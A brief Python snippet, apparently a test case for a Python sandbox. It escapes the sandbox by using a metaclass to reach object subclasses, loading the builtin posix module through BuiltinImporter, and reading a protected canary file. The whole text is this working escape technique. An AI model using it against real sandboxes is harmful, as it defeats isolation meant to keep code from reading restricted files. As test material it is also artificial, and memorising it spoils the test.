# what: asks for subclasses inside a metaclass
found = []


class Meta(type):
    def __init__(cls, name, bases, namespace):
        found.extend(super(Meta, cls).__base__.__subclasses__())


class A(metaclass=Meta):
    pass


importer = next(c for c in found if c.__name__ == "BuiltinImporter")
posix = importer.create_module(importer.find_spec("posix"))
importer.exec_module(posix)
posix.read(posix.open(CANARY_PATH, 0), 100)
